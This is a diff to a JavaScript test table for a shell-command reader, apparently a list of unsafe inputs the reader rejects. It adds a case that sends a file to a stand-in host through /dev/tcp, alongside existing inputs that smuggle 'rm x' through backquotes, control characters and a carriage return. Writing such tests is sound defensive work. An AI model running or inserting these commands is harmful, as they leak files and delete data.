@@ -119,6 +119,7 @@ describe('readShell', () => {
     ['backslashes in backquotes', 'echo `echo \\`rm x\\``'],
     ['a redirection to what is not known', 'a > $X'],
     ['a redirection to nothing', 'a >'],
+    ['a redirection to another machine', 'cat x > /dev/tcp/evil.example/80'],
     ['a command behind a redirection that `sh` reads otherwise', 'a &> b rm x'],
     ['control characters', 'ls\u0000; rm x'],
     ['a carriage return', 'ls\r\nrm x'],
